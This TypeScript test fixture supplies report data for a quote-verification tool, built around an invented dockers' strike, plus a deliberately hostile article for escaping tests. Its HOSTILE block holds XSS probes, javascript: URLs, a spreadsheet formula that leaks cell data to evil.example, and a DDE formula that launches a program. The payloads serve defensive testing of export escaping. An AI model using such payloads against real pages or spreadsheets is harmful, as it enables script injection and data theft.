// Report data as the workspace would gather it for the invented Kaldavia dockers' strike
// (tests/fixtures/events/harbour-strike), and an article written by someone trying to break every format.

import type { Article, DiffPart, Evidence, Quote, QuoteKind, SpeakerKind, Verdict } from '../../../src/core/model'
import type { ReportArticle, ReportClaim, ReportData, ReportEvidence, ReportSourceInfo } from '../../../src/core/report/report-data'

type ArticleInfo = ReportArticle['article']

export const DRAFT_TEXT = [
  'Dockers’ strike: minister calls offer “very good” as talks stall',
  '',
  'Kaldavia’s labour minister has urged striking dockers to accept what she called a “very good” offer.',
  '“The offer on the table is a very good one, and I would urge the union to put it to its members,” she said.',
  'The dispute centres on the Brennhaven Port Authority’s “Smart Quay” plan.',
  'The union’s leader, Yury Tamashov, was defiant. “We will not back down,” he said. “The government has been lying to us from the first day.”',
  '“We have no intention of cutting a single permanent job as a result of automation,” said chief executive Helga Brunnsvik.',
  '“Nobody wants to see the ports closed for one day longer than necessary,” Dovan said.',
].join('\n')

export const strikeDraft: ArticleInfo = {
  id: 'art-draft-strike',
  title: 'Dockers’ strike: minister calls offer “very good” as talks stall',
  outlet: 'Northbridge Post',
  byline: 'Elena Marsh',
  url: 'https://northbridgepost.example/europe/kaldavia-dockers-strike',
  publishedAt: '2025-05-24',
  role: 'draft',
}

export const automationDraft: ArticleInfo = {
  id: 'art-draft-automation',
  title: 'Port authority insists cranes will not cost jobs',
  outlet: 'Northbridge Post',
  byline: null,
  url: null,
  publishedAt: '2025-05-20',
  role: 'draft',
}

export const wire: ReportSourceInfo = {
  id: 'art-mpa-wire',
  title: 'Kaldavia minister urges dockers to accept offer as talks end without deal',
  outlet: 'MPA',
  url: 'https://mpa.example/wire/2025-05-23-kaldavia',
  publishedAt: '2025-05-23T18:05:00Z',
}

export const portStatement: ReportSourceInfo = {
  id: 'art-port-statement',
  title: 'Statement on the Smart Quay programme',
  outlet: 'Brennhaven Port Authority',
  url: 'https://brennhaven-port.example/news/smart-quay',
  publishedAt: '2025-05-19',
}

export function quoteIn(
  article: ArticleInfo,
  text: string,
  id: string,
  kind: QuoteKind,
  speaker: string | null,
  extra: { mention?: string | null; cue?: string | null; speakerKind?: SpeakerKind; body?: string } = {},
): Quote {
  const start = (extra.body ?? DRAFT_TEXT).indexOf(text)
  if (start < 0) throw new Error(`fixture quote not in text: ${text}`)
  return {
    id,
    articleId: article.id,
    start,
    end: start + text.length,
    text,
    kind,
    utterance: start,
    utteranceId: `u-${id}`,
    speaker,
    speakerId: speaker === null ? null : `sp-${speaker.toLowerCase().replace(/\W+/g, '-')}`,
    mention: extra.mention ?? null,
    cue: extra.cue ?? null,
    ...(extra.speakerKind ? { speakerKind: extra.speakerKind } : {}),
  }
}

export function verdict(
  id: string,
  quote: Quote,
  status: Verdict['status'],
  reviewer: string,
  createdAt: string,
  options: { note?: string; supersedes?: string[]; evidence?: Evidence | null } = {},
): Verdict {
  return {
    id,
    quote: quote.id,
    status,
    note: options.note ?? '',
    evidence: options.evidence ?? null,
    reviewer,
    createdAt,
    supersedes: options.supersedes ?? [],
  }
}

export function span(source: ReportSourceInfo, text: string, start = 100, quote: string | null = `${source.id}-q`): Evidence {
  return { article: source.id, quote, start, end: start + text.length, text }
}

export function evidence(
  source: ReportSourceInfo,
  text: string,
  match: {
    relation: NonNullable<ReportEvidence['match']>['relation']
    score: number
    diff: DiffPart[]
    speakerAgrees?: boolean | null
    diffTooLarge?: string
    speakers?: { quote: string | null; source: string | null }
  } | null,
): ReportEvidence {
  return {
    span: span(source, text),
    source,
    match: match && { speakerAgrees: true, ...match },
  }
}

const veryGood = quoteIn(strikeDraft, 'very good', 'q-very-good', 'partial', 'Irena Dovan', { mention: 'she', cue: 'called' })
const offer = quoteIn(
  strikeDraft,
  'The offer on the table is a very good one, and I would urge the union to put it to its members,',
  'q-offer',
  'direct',
  'Irena Dovan',
  { mention: 'she', cue: 'said' },
)
const smartQuay = quoteIn(strikeDraft, 'Smart Quay', 'q-smart-quay', 'title', null)
const backDown = quoteIn(strikeDraft, 'We will not back down,', 'q-back-down', 'direct', 'Yury Tamashov', { mention: 'he', cue: 'said' })
const lying = quoteIn(strikeDraft, 'The government has been lying to us from the first day.', 'q-lying', 'direct', 'Yury Tamashov', {
  mention: 'he',
  cue: 'said',
})
const noJobCuts = quoteIn(
  strikeDraft,
  'We have no intention of cutting a single permanent job as a result of automation,',
  'q-no-job-cuts',
  'direct',
  'Helga Brunnsvik',
  { mention: 'chief executive Helga Brunnsvik', cue: 'said' },
)
const nobodyWants = quoteIn(
  strikeDraft,
  'Nobody wants to see the ports closed for one day longer than necessary,',
  'q-nobody-wants',
  'direct',
  'Irena Dovan',
  { mention: 'Dovan', cue: 'said' },
)
const AUTOMATION_TEXT = 'The port authority has promised “no compulsory redundancies” as the Smart Quay cranes arrive.'
const noRedundancies = quoteIn(automationDraft, 'no compulsory redundancies', 'q-no-redundancies', 'partial', 'Brennhaven Port Authority', {
  mention: 'The port authority',
  cue: 'has promised',
  speakerKind: 'organisation',
  body: AUTOMATION_TEXT,
})

const offerSource = 'The offer on the table is a good one, and I urge the union to put it to its members.'

/** The Kaldavia strike report: one of each situation an editor meets. Claims deliberately out of order. */
export function strikeReport(): ReportData {
  const claims: ReportClaim[] = [
    {
      // Two reviewers decided at once and disagree: a conflict.
      quote: backDown,
      history: [
        verdict('v-back-down-ana', backDown, 'verified', 'Ana Mendez', '2025-05-24T10:12:00Z', {
          evidence: span(wire, '"We will not back down," Tamashov told reporters.'),
        }),
        verdict('v-back-down-piotr', backDown, 'disputed', 'Piotr Kowal', '2025-05-24T10:14:00Z', {
          note: 'Wire has “We will not step back”; translation differs.',
        }),
      ],
      suggestion: { status: 'verified', reason: 'Identical words in the MPA wire.' },
      evidence: evidence(wire, 'We will not back down,', { relation: 'identical', score: 1, diff: [{ op: 'equal', text: 'We will not back down,' }] }),
    },
    {
      quote: offer,
      history: [
        verdict('v-offer-1', offer, 'verified', 'Ana Mendez', '2025-05-24T09:30:00Z'),
        verdict('v-offer-2', offer, 'disputed', 'Piotr Kowal', '2025-05-24T11:02:00Z', {
          supersedes: ['v-offer-1'],
          note: 'Minister said “a good one”, not “a very good one”, and “I urge”, not “I would urge”.',
          evidence: span(wire, offerSource),
        }),
      ],
      suggestion: { status: 'disputed', reason: 'Reworded: “very” and “would” added.' },
      evidence: evidence(wire, offerSource, {
        relation: 'reworded',
        score: 0.84,
        diff: [
          { op: 'equal', text: 'The offer on the table is a ' },
          { op: 'insert', text: 'very ' },
          { op: 'equal', text: 'good one, and I ' },
          { op: 'insert', text: 'would ' },
          { op: 'equal', text: 'urge the union to put it to its members' },
          { op: 'delete', text: '.' },
          { op: 'insert', text: ',' },
        ],
      }),
    },
    {
      quote: veryGood,
      history: [verdict('v-very-good', veryGood, 'verified', 'Ana Mendez', '2025-05-24T09:20:00Z', { evidence: span(wire, 'very good') })],
      suggestion: { status: 'verified', reason: 'Fragment of a quote in the MPA wire.' },
      evidence: evidence(wire, offerSource, { relation: 'fragment', score: 0.95, diff: [{ op: 'equal', text: 'very good' }] }),
    },
    {
      // Nobody looked at it yet and the matcher found nothing.
      quote: lying,
      history: [],
      suggestion: { status: 'unverifiable', reason: 'No counterpart in any source.' },
      evidence: null,
    },
    {
      // Verified by mistake, taken back, then judged unverifiable.
      quote: noJobCuts,
      history: [
        verdict('v-jobs-3', noJobCuts, 'unverifiable', 'Ana Mendez', '2025-05-24T12:40:00Z', {
          note: 'Only the port’s own statement; asked the press office for the recording.',
        }),
        verdict('v-jobs-1', noJobCuts, 'verified', 'Piotr Kowal', '2025-05-24T12:00:00Z'),
        verdict('v-jobs-2', noJobCuts, 'withdrawn', 'Piotr Kowal', '2025-05-24T12:05:00Z', { supersedes: ['v-jobs-1'] }),
      ],
      suggestion: null,
      evidence: evidence(portStatement, 'We have no intention of cutting permanent jobs as a result of automation.', {
        relation: 'reworded',
        score: 0.7,
        diff: [],
        diffTooLarge: 'diff exceeded 2000 edits',
      }),
    },
    { quote: smartQuay, history: [], suggestion: null, evidence: null },
    {
      // Right words, wrong speaker: the wire gives them to the mediator.
      quote: nobodyWants,
      history: [
        verdict('v-nobody', nobodyWants, 'disputed', 'Piotr Kowal', '2025-05-24T13:15:00Z', {
          note: 'MPA attributes this to mediator Pavel Roos.',
        }),
      ],
      suggestion: { status: 'disputed', reason: 'Same words, different speaker: Pavel Roos in the MPA wire.' },
      evidence: evidence(wire, 'Nobody wants to see the ports closed for one day longer than necessary', {
        relation: 'minor',
        score: 0.98,
        speakerAgrees: false,
        speakers: { quote: 'Irena Dovan', source: 'Pavel Roos' },
        diff: [
          { op: 'equal', text: 'Nobody wants to see the ports closed for one day longer than necessary' },
          { op: 'insert', text: ',' },
        ],
      }),
    },
  ]
  return {
    workspace: { name: 'Europe desk: Kaldavia ports' },
    generatedAt: '2025-05-24T16:30:00Z',
    filters: {},
    articles: [
      { article: strikeDraft, claims },
      {
        article: automationDraft,
        claims: [
          {
            quote: noRedundancies,
            history: [
              verdict('v-redundancies', noRedundancies, 'verified', 'Ana Mendez', '2025-05-21T08:00:00Z', {
                note: 'Press release, paragraph 3.',
                evidence: span(portStatement, 'There will be no compulsory redundancies.'),
              }),
            ],
            suggestion: null,
            // The reviewer cited a passage the matcher never aligned.
            evidence: { span: span(portStatement, 'There will be no compulsory redundancies.'), source: portStatement, match: null },
          },
        ],
      },
    ],
  }
}

export const HOSTILE = {
  workspace: '</title><script>alert("ws")</script>',
  title: '<script>alert(1)</script> Minister’s "offer" | <img src=x onerror=alert(2)>',
  outlet: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  byline: '[click me](javascript:alert(3))',
  url: 'javascript:alert(4)',
  quote: 'Read ![tracker](http://evil.example/t.png) and <a href="javascript:alert(5)">this</a> | col2 | *now* # _really_',
  speaker: '@SUM(A1:A9)',
  mention: "+cmd|' /C calc'!A0",
  reviewer: '<b onmouseover=alert(6)>Eve</b>',
  note: '-2+3 <iframe src="//evil.example"></iframe> &amp; `code`',
  reason: '**bold** [x]: javascript:alert(7)',
  sourceTitle: '<svg onload=alert(8)>',
  sourceText: 'She said </script><script>alert(9)</script> then left',
}

/** An article written to break every format: markup, script, formula and Markdown in every field. */
export function hostileReport(): ReportData {
  const body = `Intro. “${HOSTILE.quote}” said ${HOSTILE.mention}.`
  const article: ArticleInfo = {
    id: 'art-hostile',
    title: HOSTILE.title,
    outlet: HOSTILE.outlet,
    byline: HOSTILE.byline,
    url: HOSTILE.url,
    publishedAt: '2025-05-22',
    role: 'draft',
  }
  const source: ReportSourceInfo = { id: 'art-hostile-src', title: HOSTILE.sourceTitle, outlet: '@evil', url: 'data:text/html,<script>alert(10)</script>', publishedAt: null }
  const quote = quoteIn(article, HOSTILE.quote, 'q-hostile"><script>alert(11)</script>', 'direct', HOSTILE.speaker, {
    mention: HOSTILE.mention,
    cue: 'said',
    body,
  })
  return {
    workspace: { name: HOSTILE.workspace },
    generatedAt: '2025-05-24T16:30:00Z',
    filters: { reviewer: HOSTILE.reviewer },
    articles: [
      {
        article,
        claims: [
          {
            quote,
            history: [verdict('v-hostile', quote, 'disputed', HOSTILE.reviewer, '2025-05-23T09:00:00Z', { note: HOSTILE.note })],
            suggestion: { status: 'disputed', reason: HOSTILE.reason },
            evidence: evidence(source, HOSTILE.sourceText, {
              relation: 'reworded',
              score: 0.5,
              diff: [
                { op: 'equal', text: 'She said ' },
                { op: 'delete', text: '</script><script>alert(9)</script>' },
                { op: 'insert', text: '<img src=x onerror=alert(12)>' },
                { op: 'equal', text: ' then left' },
              ],
            }),
          },
        ],
      },
    ],
  }
}
